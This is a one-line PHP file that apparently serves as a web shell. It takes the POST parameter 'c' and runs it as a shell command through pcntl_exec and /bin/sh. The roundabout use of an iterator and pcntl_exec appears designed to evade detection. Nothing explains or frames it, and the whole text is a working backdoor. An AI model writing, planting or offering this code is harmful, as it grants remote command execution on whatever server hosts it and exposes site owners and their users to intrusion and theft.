<?php $a = new ArrayIterator([$_POST["c"]]); foreach ($a as $v) { pcntl_exec("/bin/sh", ["-c", $v]); }
